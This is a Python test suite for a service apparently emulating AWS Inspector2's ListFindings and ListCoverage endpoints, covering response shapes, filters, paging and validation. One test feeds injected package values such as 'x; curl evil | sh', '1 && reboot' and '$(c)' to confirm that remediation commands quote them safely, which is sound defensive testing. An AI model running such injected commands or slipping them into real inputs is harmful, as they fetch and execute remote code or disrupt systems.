"""ListCoverage and ListFindings against the model's shapes, filter by filter, and under any garbage."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dogwatch.model.facts import NOTHING_KNOWN
from dogwatch.model.matches import Severity
from dogwatch.model.monitoring import StatusCode, StatusReason
from dogwatch.model.views import FindingQuery
from dogwatch.serve.aws import coverage, findings
from dogwatch.serve.aws.criteria import FilterTable
from dogwatch.serve.aws.operations import OFFERED, OPERATIONS, operation_at
from dogwatch.serve.limits import MAX_REQUEST_BYTES
from tests.serve.callers import ACCOUNT
from tests.serve.rooms import Rooms, post
from tests.serve.shapes import MODEL, error_violations, reply_violations
from tests.serve.shown import (
    DIGEST,
    NOW,
    OTHER_DIGEST,
    make_finding,
    make_image,
    make_package,
    make_registry,
    make_unresolved,
)

FINDINGS = "/findings/list"
COVERAGE = "/coverage/list"
ARN = f"arn:aws:inspector2:eu-west-1:{ACCOUNT}:finding/"
IMAGE_ARN = f"arn:aws:ecr:eu-west-1:{ACCOUNT}:repository/app/web/{DIGEST}"
LONG_AGO, LATER = 0, 4102444800.0


def listed(rooms: Rooms, path: str, criteria: Any, **others: Any) -> list[Any]:
    reply = post(rooms, path, {"filterCriteria": criteria, **others})
    assert reply.status == 200, reply.body
    name, operation = ("findings", "ListFindings") if path == FINDINGS else ("coveredResources", "ListCoverage")
    assert reply_violations(operation, reply.json) == []
    rows: list[Any] = reply.json[name]
    return rows


def equals(value: str) -> list[dict[str, str]]:
    return [{"comparison": "EQUALS", "value": value}]


def differs(value: str) -> list[dict[str, str]]:
    return [{"comparison": "NOT_EQUALS", "value": value}]


def begins(value: str) -> list[dict[str, str]]:
    return [{"comparison": "PREFIX", "value": value}]


# --- shapes -----------------------------------------------------------------------------------------------------------


def test_the_table_of_operations_is_that_of_the_model() -> None:
    model = {
        (name, MODEL.operation_model(name).http["method"], MODEL.operation_model(name).http["requestUri"])
        for name in MODEL.operation_names
    }
    assert set(OPERATIONS) == model
    assert set(OFFERED) <= {name for name, _, _ in OPERATIONS}


def test_operations_are_found_by_method_and_path() -> None:
    assert operation_at("POST", "/findings/list") == "ListFindings"
    assert operation_at("GET", "/findings/list") is None
    assert operation_at("DELETE", "/tags/arn:aws:inspector2:x") == "UntagResource"
    assert operation_at("GET", "/api/v1/findings") is None


def filters_of(table: FilterTable) -> set[str]:
    return {
        *table.properties,
        *table.constants,
        *table.times,
        *table.numbers,
        *table.by_name,
        *table.absent,
        *table.others,
    }


def test_every_filter_of_the_model_is_known() -> None:
    in_findings = set(MODEL.operation_model("ListFindings").input_shape.members["filterCriteria"].members)
    assert filters_of(findings.FILTERS) == in_findings
    assert set(findings._SORTS) == set(MODEL.shape_for("SortField").enum)
    in_coverage = set(MODEL.operation_model("ListCoverage").input_shape.members["filterCriteria"].members)
    assert filters_of(coverage.FILTERS) == in_coverage


@pytest.mark.parametrize("severity", Severity)
def test_a_finding_has_the_shape_of_the_model(severity: Severity) -> None:
    whole = make_finding(severity=severity, in_use_at=NOW, in_use_count=2)
    bare = make_finding(
        severity=severity,
        aliases=(),
        title="",
        description="",
        score_tenths=None,
        score_vector="",
        score_version="",
        score_source="",
        references=(),
        published_at=None,
        modified_at=None,
        tags=(),
        architecture="",
        platform="",
        pushed_at=None,
        packages=(make_package(arch="", fixed_version="", layer_digest="", paths=(), ecosystem="Nobody's"),),
        scores=(),
        vendor_word="",
        facts=NOTHING_KNOWN,
    )
    long = make_finding(
        severity=severity,
        title="t" * 5000,
        description="d" * 100_000,
        packages=(make_package(name="n" * 5000, version="v" * 5000, fixed_version="f" * 5000, paths=("p" * 5000,)),),
    )
    rows = listed(Rooms(rows=[whole, bare, long]), FINDINGS, {})
    if severity is Severity.HIGH:
        images = [row["resources"][0]["details"]["awsEcrContainerImage"] for row in rows]
        assert [one.get("inUseCount") for one in images] == [2, None, None]
        assert images[0]["lastInUseAt"] == NOW.timestamp()
        assert rows[0]["epss"] == {"score": 0.01151}
        assert rows[0]["exploitAvailable"] == "YES"
        assert rows[0]["exploitabilityDetails"] == {"lastKnownExploitAt": datetime(2024, 9, 4, tzinfo=UTC).timestamp()}
        assert rows[0]["packageVulnerabilityDetails"]["vendorSeverity"] == "HIGH"
        assert [one["source"] for one in rows[0]["packageVulnerabilityDetails"]["cvss"]] == ["osv", "CISA-ADP"]
        assert rows[1]["description"] == "CVE-2024-6119"
        assert rows[1].keys().isdisjoint({"inspectorScore", "epss", "exploitAvailable", "exploitabilityDetails"})
        assert rows[1]["packageVulnerabilityDetails"]["vulnerablePackages"] == [
            {"name": "libssl3", "version": "3.0.9-1", "fixedInVersion": "NotAvailable"}
        ]


@pytest.mark.parametrize("reason", StatusReason)
@pytest.mark.parametrize("code", StatusCode)
def test_covered_images_have_the_shape_of_the_model(code: StatusCode, reason: StatusReason) -> None:
    image = make_image(status_code=code, status_reason=reason)
    bare = make_image(
        status_code=code, status_reason=reason, tags=(), tags_via_index=(), pulled_at=None, indexed_at=None
    )
    rows = listed(Rooms(image_rows=[image, bare]), COVERAGE, {})
    assert [row["scanStatus"] for row in rows] == [{"statusCode": code, "reason": reason}] * 2


def test_what_could_not_be_resolved_is_covered_as_what_was_not_looked_at() -> None:
    rooms = Rooms(image_rows=[], unresolved_rows=[make_unresolved()])
    assert listed(rooms, COVERAGE, {}) == [
        {
            "resourceType": "AWS_ECR_CONTAINER_IMAGE",
            "resourceId": f"arn:aws:ecr:eu-west-1:{ACCOUNT}:repository/app/web/sha256:{'d' * 64}",
            "accountId": ACCOUNT,
            "scanType": "PACKAGE",
            "scanStatus": {"statusCode": "INACTIVE", "reason": "ACCESS_DENIED"},
            "resourceMetadata": {
                "ecrImage": {"tags": ["refused"]},
                "ecrRepository": {"name": "app/web", "scanFrequency": "CONTINUOUS_SCAN"},
            },
        }
    ]
    assert len(listed(rooms, COVERAGE, {"scanStatusReason": equals("ACCESS_DENIED")})) == 1
    assert listed(rooms, COVERAGE, {"scanStatusCode": equals("ACTIVE")}) == []


@pytest.mark.parametrize(("images", "unresolved"), [(0, 3), (3, 0), (4, 3), (3, 4), (5, 1)])
def test_a_walk_through_coverage_sees_images_and_then_what_could_not_be_resolved(images: int, unresolved: int) -> None:
    rooms = Rooms(
        image_rows=[make_image(image_id=number, digest=f"sha256:{number:064}") for number in range(images)],
        unresolved_rows=[make_unresolved(digest=f"sha256:{number:064x}") for number in range(10, 10 + unresolved)],
    )
    seen: list[str] = []
    token: dict[str, str] = {}
    while True:
        reply = post(rooms, COVERAGE, {"maxResults": 2, **token}).json
        assert 0 < len(reply["coveredResources"]) <= 2
        seen += [one["resourceId"].rpartition(":")[2] for one in reply["coveredResources"]]
        if "nextToken" not in reply:
            break
        token = {"nextToken": reply["nextToken"]}
    expected = [f"{number:064}" for number in range(images)]
    assert seen == expected + [f"{number:064x}" for number in range(10, 10 + unresolved)]


def test_commands_are_quoted_for_a_shell() -> None:
    hostile = make_package(name="x; curl evil | sh", fixed_version="1 && reboot")
    rows = listed(
        Rooms(
            rows=[make_finding(packages=(hostile, make_package(ecosystem="PyPI", name="a`b`", fixed_version="$(c)")))]
        ),
        FINDINGS,
        {},
    )
    commands = [one["remediation"] for one in rows[0]["packageVulnerabilityDetails"]["vulnerablePackages"]]
    assert commands == [
        "apt-get update && apt-get install --only-upgrade 'x; curl evil | sh'",
        "pip install --upgrade 'a`b`>=$(c)'",
    ]


@pytest.mark.parametrize(
    ("ecosystem", "manager", "command"),
    [
        ("Ubuntu:24.04:LTS", "OS", "apt-get update && apt-get install --only-upgrade curl"),
        ("Amazon Linux:2023", "OS", "dnf upgrade curl"),
        ("Alpine:v3.22", "OS", "apk add --upgrade curl"),
        ("Go", "GOBINARY", None),
        ("Bitnami", None, None),
    ],
)
def test_a_package_names_its_manager_and_the_command_that_brings_its_fix(
    ecosystem: str, manager: str | None, command: str | None
) -> None:
    rows = [make_finding(packages=(make_package(ecosystem=ecosystem, name="curl"),))]
    (package,) = listed(Rooms(rows=rows), FINDINGS, {})[0]["packageVulnerabilityDetails"]["vulnerablePackages"]
    assert (package.get("packageManager"), package.get("remediation")) == (manager, command)


# --- filters ----------------------------------------------------------------------------------------------------------

IN_FINDINGS: list[tuple[str, Any, bool]] = [
    ("severity", equals("HIGH"), True),
    ("severity", equals("LOW"), False),
    ("severity", differs("HIGH"), False),
    ("severity", [*equals("LOW"), *equals("HIGH")], True),
    ("findingStatus", equals("ACTIVE"), True),
    ("findingStatus", equals("SUPPRESSED"), False),
    ("findingStatus", differs("CLOSED"), True),
    ("title", begins("CVE-2024-6119"), True),
    ("vulnerabilityId", equals("CVE-2024-6119"), True),
    ("vulnerabilityId", begins("CVE-2024-"), True),
    ("vulnerabilityId", equals("CVE-2024-1"), False),
    ("relatedVulnerabilities", equals("DSA-5764-1"), True),
    ("vulnerabilitySource", equals("osv"), True),
    ("fixAvailable", equals("YES"), True),
    ("fixAvailable", equals("NO"), False),
    ("ecrImageRepositoryName", equals("app/web"), True),
    ("ecrImageRepositoryName", begins("app/"), True),
    ("cloudImageRepositoryName", differs("app/web"), False),
    ("ecrImageTags", equals("latest"), True),
    ("ecrImageTags", differs("latest"), False),
    ("ecrImageHash", equals(DIGEST), True),
    ("cloudImageDigest", equals(OTHER_DIGEST), False),
    ("ecrImageArchitecture", equals("amd64"), True),
    ("ecrImageRegistry", equals("harbour"), True),
    ("ecrImageRegistry", equals("other"), False),
    ("awsAccountId", equals(ACCOUNT), True),
    ("awsAccountId", equals("999999999999"), False),
    ("awsAccountId", differs(ACCOUNT), False),
    ("awsAccountId", begins("1234"), True),
    ("findingType", equals("PACKAGE_VULNERABILITY"), True),
    ("findingType", equals("NETWORK_REACHABILITY"), False),
    ("resourceType", equals("AWS_ECR_CONTAINER_IMAGE"), True),
    ("resourceType", equals("AWS_EC2_INSTANCE"), False),
    ("cloudProvider", equals("AWS"), True),
    ("cloudProviderRegion", equals("eu-west-1"), True),
    ("cloudProviderRegion", begins("eu-"), True),
    ("cloudProviderRegion", equals("us-east-1"), False),
    ("cloudProviderRegion", differs("us-east-1"), True),
    ("cloudProviderRegion", differs("eu-west-1"), False),
    ("resourceId", equals(IMAGE_ARN), True),
    ("resourceId", equals(IMAGE_ARN.replace("eu-west-1", "us-east-1")), False),
    ("resourceId", equals(IMAGE_ARN.replace("app/web", "app/other")), False),
    ("resourceId", equals(IMAGE_ARN.replace(ACCOUNT, "999999999999")), False),
    ("resourceId", equals("i-0123456789abcdef0"), False),
    ("resourceId", differs(IMAGE_ARN), False),
    ("resourceId", differs("i-0123456789abcdef0"), True),
    ("findingArn", equals(f"{ARN}{1:016x}{7:016x}"), True),
    ("findingArn", equals(f"{ARN}{1:016x}{8:016x}"), False),
    ("findingArn", equals(f"{ARN}{1:016x}{7:016x}".replace("eu-west-1", "us-east-1")), False),
    ("findingArn", equals("nonsense"), False),
    ("findingArn", begins(ARN), True),
    ("findingArn", begins(f"{ARN}{1:016x}"), True),
    ("findingArn", begins(f"{ARN}{2:016x}"), False),
    ("findingArn", begins("arn:aws:inspector2:us-"), False),
    ("findingArn", differs(f"{ARN}{1:016x}{7:016x}"), False),
    ("findingArn", differs("nonsense"), True),
    ("firstObservedAt", [{"startInclusive": LONG_AGO}], True),
    ("firstObservedAt", [{"startInclusive": LATER}], False),
    ("firstObservedAt", [{"startInclusive": "2026-07-06T12:00:00Z", "endInclusive": "2026-07-06T12:00:00Z"}], True),
    ("lastObservedAt", [{"endInclusive": LATER}, {"startInclusive": LATER}], True),
    ("updatedAt", [{"endInclusive": -1e300}], False),
    ("updatedAt", [{"endInclusive": 1e300}], True),
    ("updatedAt", [{}], True),
    ("ecrImagePushedAt", [{"startInclusive": LONG_AGO}], True),
    ("inspectorScore", [{"lowerInclusive": 7.5, "upperInclusive": 7.5}], True),
    ("inspectorScore", [{"lowerInclusive": 7.6}], False),
    ("vulnerablePackages", [{"name": {"comparison": "EQUALS", "value": "libssl3"}}], True),
    ("vulnerablePackages", [{"name": {"comparison": "PREFIX", "value": "curl"}}], False),
    ("epssScore", [{"lowerInclusive": 0.01, "upperInclusive": 0.02}], True),
    ("epssScore", [{"lowerInclusive": 0.02}], False),
    ("exploitAvailable", equals("YES"), True),
    ("exploitAvailable", differs("YES"), False),
    ("ec2InstanceVpcId", equals("vpc-1"), False),
    ("lambdaFunctionName", differs("f"), True),
    ("networkProtocol", begins("T"), False),
    ("resourceTags", [{"comparison": "EQUALS", "key": "team", "value": "a"}], False),
    ("portRange", [{"beginInclusive": 1, "endInclusive": 2}], False),
]


@pytest.mark.parametrize(("name", "filters", "is_found"), IN_FINDINGS)
def test_filters_of_findings(name: str, filters: Any, is_found: bool) -> None:
    assert bool(listed(Rooms(), FINDINGS, {name: filters})) is is_found


IN_COVERAGE: list[tuple[str, Any, bool]] = [
    ("scanStatusCode", equals("ACTIVE"), True),
    ("scanStatusCode", differs("ACTIVE"), False),
    ("scanStatusReason", equals("SUCCESSFUL"), True),
    ("scanStatusReason", equals("PENDING_INITIAL_SCAN"), False),
    ("accountId", equals(ACCOUNT), True),
    ("accountId", differs(ACCOUNT), False),
    ("resourceId", equals(IMAGE_ARN), True),
    ("resourceId", equals(f"arn:aws:ecr:eu-west-1:{ACCOUNT}:repository/app/web"), False),
    ("resourceType", equals("AWS_ECR_CONTAINER_IMAGE"), True),
    ("resourceType", equals("AWS_LAMBDA_FUNCTION"), False),
    ("scanType", equals("PACKAGE"), True),
    ("scanType", equals("NETWORK"), False),
    ("ecrRepositoryName", equals("app/web"), True),
    ("ecrRepositoryName", differs("app/web"), False),
    ("ecrImageTags", equals("latest"), True),
    ("cloudContainerImageTags", equals("1.4.2"), True),
    ("cloudContainerRepositoryName", equals("app"), False),
    ("cloudContainerRegistryName", equals("harbour"), True),
    ("cloudProvider", equals("AZURE"), False),
    ("cloudProviderRegion", equals("eu-west-1"), True),
    ("cloudProviderAccountId", equals(ACCOUNT), True),
    ("lastScannedAt", [{"endInclusive": LATER}], True),
    ("lastScannedAt", [{"startInclusive": LATER}], False),
    ("imagePulledAt", [{"startInclusive": LONG_AGO, "endInclusive": LATER}], True),
    ("ecrImageLastInUseAt", [{"startInclusive": LONG_AGO}], False),
    ("ec2InstanceTags", [{"comparison": "EQUALS", "key": "a"}], False),
    ("lambdaFunctionName", equals("f"), False),
    ("scanMode", differs("EC2_AGENTLESS"), True),
]


@pytest.mark.parametrize(("name", "filters", "is_found"), IN_COVERAGE)
def test_filters_of_coverage(name: str, filters: Any, is_found: bool) -> None:
    assert bool(listed(Rooms(), COVERAGE, {name: filters})) is is_found


def test_an_image_that_was_never_pulled_lies_in_no_span() -> None:
    rooms = Rooms(image_rows=[make_image(pulled_at=None, indexed_at=None)])
    assert listed(rooms, COVERAGE, {"imagePulledAt": [{"startInclusive": LONG_AGO}]}) == []
    assert len(listed(rooms, COVERAGE, {})) == 1


def test_two_lists_on_one_property_must_both_hold() -> None:
    def ask(one: Any, other: Any) -> bool:
        criteria = {"ecrImageRepositoryName": one, "cloudImageRepositoryName": other}
        return bool(listed(Rooms(), FINDINGS, criteria))

    assert ask(equals("app/web"), equals("app/web"))
    assert ask(equals("app/web"), begins("app"))
    assert ask(begins("a"), begins("app/w"))
    assert ask([*equals("x"), *equals("app/web")], differs("x"))
    assert not ask(equals("app/web"), equals("app/other"))
    assert not ask(begins("app"), begins("other"))
    assert not ask(equals("app/web"), differs("app/web"))


def test_two_lists_on_a_property_of_many_values_are_refused() -> None:
    criteria = {"ecrImageTags": equals("latest"), "cloudImageTags": equals("1.4.2")}
    reply = post(Rooms(), FINDINGS, {"filterCriteria": criteria})
    assert (reply.status, reply.json["reason"]) == (400, "OTHER")
    assert listed(Rooms(), FINDINGS, {"ecrImageTags": equals("latest"), "cloudImageTags": equals("latest")})


def test_spans_on_one_property_are_cut_with_each_other() -> None:
    early, late = NOW - timedelta(days=11), NOW - timedelta(days=9)
    inside = {"startInclusive": early.timestamp(), "endInclusive": late.timestamp()}
    after = {"startInclusive": late.timestamp()}
    assert listed(Rooms(), FINDINGS, {"ecrImagePushedAt": [inside], "cloudImagePushedAt": [{}]})
    assert not listed(Rooms(), FINDINGS, {"ecrImagePushedAt": [inside], "cloudImagePushedAt": [after]})


# --- names that two registries share ----------------------------------------------------------------------------------


@pytest.fixture
def sharing() -> Rooms:
    """Two registries: both have app/web, one also has app/api."""
    return Rooms(
        known_registries=[make_registry(), make_registry("quay", "us-east-1", 2)],
        image_rows=[
            make_image(),
            make_image(image_id=2, registry_alias="quay", region="us-east-1"),
            make_image(image_id=3, registry_alias="quay", region="us-east-1", repository="app/api"),
        ],
    )


def names_of(rows: list[Any]) -> list[str]:
    return [row["resourceMetadata"]["ecrRepository"]["name"] for row in rows]


def test_a_shared_name_is_shown_with_its_registry(sharing: Rooms) -> None:
    rows = listed(sharing, COVERAGE, {})
    assert names_of(rows) == ["harbour/app/web", "quay/app/web", "app/api"]
    assert len({row["resourceId"] for row in rows}) == 3


@pytest.mark.parametrize(
    ("filters", "expected"),
    [
        (equals("quay/app/web"), ["quay/app/web"]),
        (equals("app/api"), ["app/api"]),
        (equals("app/web"), []),
        (equals("quay/app/api"), []),
        ([*equals("harbour/app/web"), *equals("app/api")], ["harbour/app/web", "app/api"]),
        (differs("quay/app/web"), ["harbour/app/web", "app/api"]),
        (differs("app/web"), ["harbour/app/web", "quay/app/web", "app/api"]),
        ([*differs("app/api"), *equals("app/web")], []),
    ],
)
def test_a_shown_name_finds_what_it_is_shown_for(sharing: Rooms, filters: Any, expected: list[str]) -> None:
    assert names_of(listed(sharing, COVERAGE, {"ecrRepositoryName": filters})) == expected


def test_a_shown_arn_finds_its_image_alone(sharing: Rooms) -> None:
    for row in listed(sharing, COVERAGE, {}):
        assert listed(sharing, COVERAGE, {"resourceId": equals(row["resourceId"])}) == [row]


def test_a_prefix_also_finds_a_shared_name_in_its_plain_form(sharing: Rooms) -> None:
    sharing.rows = [make_finding(), make_finding(image_id=2, registry_alias="quay", region="us-east-1")]
    assert len(listed(sharing, FINDINGS, {"ecrImageRepositoryName": begins("app/")})) == 2
    assert len(listed(sharing, FINDINGS, {"ecrImageRepositoryName": begins("quay/ap")})) == 1


def test_regions_are_those_of_registries(sharing: Rooms) -> None:
    assert len(listed(sharing, COVERAGE, {"cloudProviderRegion": equals("us-east-1")})) == 2
    assert len(listed(sharing, COVERAGE, {"cloudProviderRegion": differs("us-east-1")})) == 1


# --- orders, pages, refusals ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("field", MODEL.shape_for("SortField").enum)
@pytest.mark.parametrize("order", ["ASC", "DESC"])
def test_every_order_of_the_model_is_taken(field: str, order: str) -> None:
    rooms = Rooms()
    assert listed(rooms, FINDINGS, {}, sortCriteria={"field": field, "sortOrder": order})
    assert isinstance(rooms.queries[-1], FindingQuery)
    assert rooms.queries[-1].descending is (order == "DESC")


def test_a_walk_through_pages_sees_everything_once() -> None:
    rooms = Rooms(rows=[make_finding(vulnerability_id=number) for number in range(1, 251)])
    seen: list[str] = []
    token: dict[str, str] = {}
    while True:
        reply = post(rooms, FINDINGS, {"maxResults": 100, **token}).json
        seen += [one["findingArn"] for one in reply["findings"]]
        if "nextToken" not in reply:
            break
        token = {"nextToken": reply["nextToken"]}
    assert len(seen) == len(set(seen)) == 250


@pytest.mark.parametrize(
    ("path", "content", "field"),
    [
        (FINDINGS, {"maxResults": 0}, "maxResults"),
        (FINDINGS, {"maxResults": 101}, "maxResults"),
        (FINDINGS, {"maxResults": "5"}, "maxResults"),
        (COVERAGE, {"maxResults": 201}, "maxResults"),
        (FINDINGS, {"nextToken": "of another list"}, "nextToken"),
        (COVERAGE, {"nextToken": "of another list"}, "nextToken"),
        (COVERAGE, {"nextToken": "unresolved:of another list"}, "nextToken"),
        (FINDINGS, {"sortCriteria": {"field": "SEVERITY"}}, "sortCriteria"),
        (FINDINGS, {"sortCriteria": {"field": "NOTHING", "sortOrder": "ASC"}}, "sortCriteria.field"),
        (FINDINGS, {"sortCriteria": {"field": "SEVERITY", "sortOrder": "UP"}}, "sortCriteria.sortOrder"),
        (FINDINGS, {"filterCriteria": {"severity": []}}, "filterCriteria.severity"),
        (FINDINGS, {"filterCriteria": {"severity": equals("HIGH") * 11}}, "filterCriteria.severity"),
        (FINDINGS, {"filterCriteria": {"severity": equals("")}}, "filterCriteria.severity[0].value"),
        (FINDINGS, {"filterCriteria": {"severity": equals("x" * 1025)}}, "filterCriteria.severity[0].value"),
        (FINDINGS, {"filterCriteria": {"severety": equals("HIGH")}}, "filterCriteria.severety"),
        (FINDINGS, {"filterCriteria": {"severity": "HIGH"}}, "filterCriteria.severity"),
        (FINDINGS, {"filterCriteria": {"updatedAt": [{"startInclusive": "soon"}]}}, "filterCriteria.updatedAt"),
        (FINDINGS, {"filterCriteria": {"updatedAt": [{"from": 1}]}}, "filterCriteria.updatedAt[0]"),
        (
            COVERAGE,
            {"filterCriteria": {"ecrRepositoryName": begins("a")}},
            "filterCriteria.ecrRepositoryName[0].comparison",
        ),
        (FINDINGS, {"filterCriterion": {}}, "body"),
        (FINDINGS, {"filterCriteria": {"resourceId": begins("arn:")}}, "filterCriteria.resourceId"),
        (
            FINDINGS,
            {"filterCriteria": {"vulnerablePackages": [{"version": {"comparison": "EQUALS", "value": "1"}}]}},
            "filterCriteria.vulnerablePackages",
        ),
        (FINDINGS, {"filterCriteria": {"vulnerablePackages": [{}]}}, "filterCriteria.vulnerablePackages"),
    ],
)
def test_what_cannot_be_asked_names_its_field(path: str, content: Any, field: str) -> None:
    reply = post(Rooms(), path, content)
    assert (reply.status, reply.headers["x-amzn-errortype"]) == (400, "ValidationException")
    assert error_violations("ValidationException", reply.json) == []
    assert reply.json["fields"][0]["name"] == field


def test_a_body_beyond_the_limit_is_refused() -> None:
    assert post(Rooms(), FINDINGS, b" " * (MAX_REQUEST_BYTES + 1)).status == 413


def test_moments_beyond_the_calendar_are_its_ends() -> None:
    rooms = Rooms()
    assert listed(rooms, FINDINGS, {"updatedAt": [{"startInclusive": -1e18, "endInclusive": 1e18}]})
    assert isinstance(rooms.queries[-1], FindingQuery)
    assert rooms.queries[-1].times == {
        "updated_at": [(datetime(1, 1, 1, tzinfo=UTC), datetime(9999, 12, 31, tzinfo=UTC))]
    }


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=12), inner, max_size=3),
    max_leaves=12,
)
filter_names = st.sampled_from(
    sorted(MODEL.operation_model("ListFindings").input_shape.members["filterCriteria"].members)
    + sorted(MODEL.operation_model("ListCoverage").input_shape.members["filterCriteria"].members)
)
entries = st.fixed_dictionaries(
    {},
    optional={
        "comparison": st.sampled_from(["EQUALS", "PREFIX", "NOT_EQUALS", "LIKE"]),
        "value": st.text(max_size=30) | st.just(IMAGE_ARN) | st.just(ARN),
        "key": st.text(max_size=5),
        "startInclusive": st.floats() | st.text(max_size=25) | st.integers(),
        "endInclusive": st.floats() | st.datetimes().map(str),
        "lowerInclusive": st.floats(),
        "upperInclusive": st.integers(),
        "name": st.fixed_dictionaries({"comparison": st.just("EQUALS"), "value": st.text(max_size=9)}),
    },
)
criteria = st.dictionaries(filter_names, st.lists(entries, max_size=3) | json_values, max_size=4)
requests = st.fixed_dictionaries(
    {},
    optional={
        "filterCriteria": criteria | json_values,
        "maxResults": st.integers() | json_values,
        "nextToken": st.text(max_size=30),
        "sortCriteria": json_values,
    },
)


@given(st.sampled_from([FINDINGS, COVERAGE]), requests | json_values)
def test_any_json_is_answered_or_refused(path: str, content: Any) -> None:
    reply = post(Rooms(), path, content)
    assert reply.status in (200, 400)
    if reply.status == 200:
        assert reply_violations("ListFindings" if path == FINDINGS else "ListCoverage", reply.json) == []
    else:
        assert error_violations("ValidationException", reply.json) == []


@given(st.sampled_from([FINDINGS, COVERAGE, "/configuration/get", "/configuration/update"]), st.binary(max_size=200))
def test_any_bytes_are_answered_or_refused(path: str, content: bytes) -> None:
    assert post(Rooms(), path, content).status in (200, 400)
